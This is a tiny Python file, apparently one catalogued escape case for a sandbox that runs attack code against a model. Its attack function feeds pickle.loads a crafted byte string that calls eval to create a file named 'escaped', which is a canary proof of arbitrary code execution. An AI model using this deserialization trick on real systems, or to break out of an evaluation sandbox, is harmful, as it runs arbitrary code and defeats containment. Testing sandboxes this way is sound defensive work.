"""Class: imports. Source: own find. Escape: pickle calls what its bytes name."""

import pickle


def attack(model, tokenizer, address):
    pickle.loads(b'cbuiltins\neval\n(S\'open("escaped", "w").close()\'\ntR.')
